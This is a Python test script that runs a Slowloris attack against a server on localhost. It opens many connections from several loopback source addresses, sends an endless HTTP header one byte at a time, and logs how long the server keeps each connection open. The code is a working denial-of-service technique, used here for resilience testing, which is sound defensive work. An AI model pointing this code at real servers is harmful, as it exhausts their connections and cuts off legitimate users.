#!/usr/bin/python3
"""Slowloris, for tests: many connections that send an HTTP request one
header byte at a time and never finish it.

Usage: slow_http.py PORT CONNECTIONS ADDRESSES SECONDS GAP_S RESULT_FILE

Keeps CONNECTIONS connections open to 127.0.0.1:PORT for SECONDS, bound to
the source addresses 127.0.0.2 ... 127.0.0.(1+ADDRESSES) in turn, each
sending one byte of an endless request every GAP_S seconds. A connection
the server closes is noted with how long it lived, and opened again a
little later. At the end, RESULT_FILE gets one JSON object:
  opened       connections opened (accepted by the kernel)
  closed       closed by the server while the attack went on
  lifetimes    seconds each closed one lived, sorted
  open_at_end  still open when the attack stopped
  oldest_at_end  age in seconds of the oldest one still open then"""
import json
import select
import socket
import sys
import time

port, nconn, naddr = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
seconds, gap, result = float(sys.argv[4]), float(sys.argv[5]), sys.argv[6]
REQUEST = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 100000

conns = {}  # socket -> [opened_at, bytes_sent, next_send_at, source]
reopen = []  # (time, source)
opened = 0
lifetimes = []
start = time.monotonic()


def open_one(source):
    global opened
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((source, 0))
    s.setblocking(False)
    try:
        s.connect(("127.0.0.1", port))
    except BlockingIOError:
        pass
    except OSError:
        s.close()
        reopen.append((time.monotonic() + 0.2, source))
        return
    now = time.monotonic()
    conns[s] = [now, 0, now + 0.05, source]
    opened += 1


for i in range(nconn):
    open_one("127.0.0.%d" % (2 + i % naddr))

while time.monotonic() - start < seconds:
    now = time.monotonic()
    for t, src in [r for r in reopen if r[0] <= now]:
        reopen.remove((t, src))
        open_one(src)
    socks = list(conns)
    readable = select.select(socks, [], [], 0.1)[0] if socks else []
    now = time.monotonic()
    for s in readable:
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if not data:
            # Closed by the server (or refused).
            st = conns.pop(s)
            lifetimes.append(round(now - st[0], 2))
            s.close()
            reopen.append((now + 0.2, st[3]))
    for s, st in list(conns.items()):
        if now >= st[2]:
            try:
                s.send(REQUEST[st[1] : st[1] + 1])
                st[1] += 1
            except (BlockingIOError, OSError):
                pass
            st[2] = now + gap
    if not socks:
        time.sleep(0.05)

now = time.monotonic()
ages = [now - st[0] for st in conns.values()]
for s in conns:
    s.close()
with open(result, "w") as f:
    json.dump(
        {
            "opened": opened,
            "closed": len(lifetimes),
            "lifetimes": sorted(lifetimes),
            "open_at_end": len(ages),
            "oldest_at_end": round(max(ages), 2) if ages else 0,
        },
        f,
    )
